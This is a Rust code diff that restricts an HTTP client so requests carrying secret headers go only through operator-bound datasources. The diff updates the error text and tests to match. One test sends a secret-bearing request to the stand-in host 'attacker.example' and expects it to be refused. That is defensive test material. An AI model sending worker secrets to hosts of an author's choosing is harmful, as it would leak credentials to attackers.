@@ -71,8 +71,8 @@ pub struct HttpClient {
     /// resolve to an internal address (see [`crate::egress`]).
     allowed_hosts: Vec<String>,
     max_body_bytes: usize,
-    /// Whether a call's own headers may carry secrets to a host no operator approved.
-    secrets_to_any_host: bool,
+    /// Whether a call that names no datasource may carry secrets in its headers.
+    secrets_without_datasource: bool,
 }
 
 impl HttpClient {
@@ -92,13 +92,13 @@ impl HttpClient {
         let open = builder().dns_resolver(Arc::new(PublicOnly(lookup))).build()?;
         let approved = builder().build()?;
         let allowed_hosts = allowed_hosts.into_iter().map(|h| h.trim().to_ascii_lowercase()).filter(|h| !h.is_empty()).collect();
-        Ok(HttpClient { open, approved, allowed_hosts, max_body_bytes, secrets_to_any_host: false })
+        Ok(HttpClient { open, approved, allowed_hosts, max_body_bytes, secrets_without_datasource: false })
     }
 
-    /// Lets a call's own headers carry secrets to hosts no operator approved
-    /// (`TF_HTTP_SECRETS_TO_ANY_HOST`).
-    pub fn secrets_to_any_host(mut self, allow: bool) -> HttpClient {
-        self.secrets_to_any_host = allow;
+    /// Lets a call that names no datasource carry secrets in its headers
+    /// (`TF_HTTP_SECRETS_WITHOUT_DATASOURCE`).
+    pub fn secrets_without_datasource(mut self, allow: bool) -> HttpClient {
+        self.secrets_without_datasource = allow;
         self
     }
 
@@ -112,9 +112,12 @@ impl HttpClient {
             return Err(HttpError::Permanent(format!("{shown}: only http and https URLs are called")));
         }
         let approved = self.approved_host(&parsed, r.datasource_hosts, &shown)?;
-        if r.carries_secrets && !approved && !self.secrets_to_any_host {
+        // A secret goes only where the operator bound it, through a datasource: a definition's
+        // author (the `write` scope) must not be able to send any worker secret to a URL of
+        // their choosing, allowed host or not.
+        if r.carries_secrets && r.datasource_hosts.is_empty() && !self.secrets_without_datasource {
             return Err(HttpError::Permanent(format!(
-                "{shown}: secrets are sent only to hosts an operator approved: call through a datasource, or list the host in TF_HTTP_ALLOWED_HOSTS (TF_HTTP_SECRETS_TO_ANY_HOST=true lifts this)"
+                "{shown}: secrets are sent only through a datasource (name one with `datasource:`; TF_HTTP_SECRETS_WITHOUT_DATASOURCE=true lifts this)"
             )));
         }
         let client = if approved { &self.approved } else { &self.open };
@@ -326,11 +329,15 @@ mod tests {
     }
 
     #[tokio::test]
-    async fn secrets_reach_only_approved_hosts() {
+    async fn secrets_go_only_through_datasources() {
         let open = HttpClient::new(vec![], 1024).unwrap();
         let with_secret = Request { carries_secrets: true, ..get("http://attacker.example/") };
         let err = open.send(with_secret).await.err().unwrap();
-        assert!(matches!(&err, HttpError::Permanent(m) if m.contains("secrets are sent only to hosts an operator approved")), "{err}");
+        assert!(matches!(&err, HttpError::Permanent(m) if m.contains("secrets are sent only through a datasource")), "{err}");
+        // An allowed host is not enough: the operator binds secrets to datasources.
+        let listed = HttpClient::new(vec!["127.0.0.1".into()], 1024).unwrap();
+        let err = listed.send(Request { carries_secrets: true, ..get("http://127.0.0.1:9/") }).await.err().unwrap();
+        assert!(err.to_string().contains("only through a datasource"), "{err}");
         let hosts = ["127.0.0.1".to_string()];
         // Through a datasource (approved, internal allowed) the refusal is not about secrets.
         let through = Request { carries_secrets: true, datasource_hosts: &hosts, ..get("http://127.0.0.1:9/") };
